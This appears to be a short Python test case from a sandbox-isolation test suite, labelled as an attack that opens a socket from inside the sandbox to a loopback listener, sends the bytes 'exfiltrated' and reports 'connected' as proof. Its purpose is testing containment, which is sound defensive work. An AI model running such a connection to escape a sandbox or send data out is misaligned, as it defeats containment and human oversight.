# attack: a network connection out of the sandbox (to a listener on the host's loopback)
# cells: dhprebn
# batch: walls
import socket

with socket.create_connection(('127.0.0.1', $PORT), timeout=2) as s:
    s.sendall(b'exfiltrated')
proof('connected')
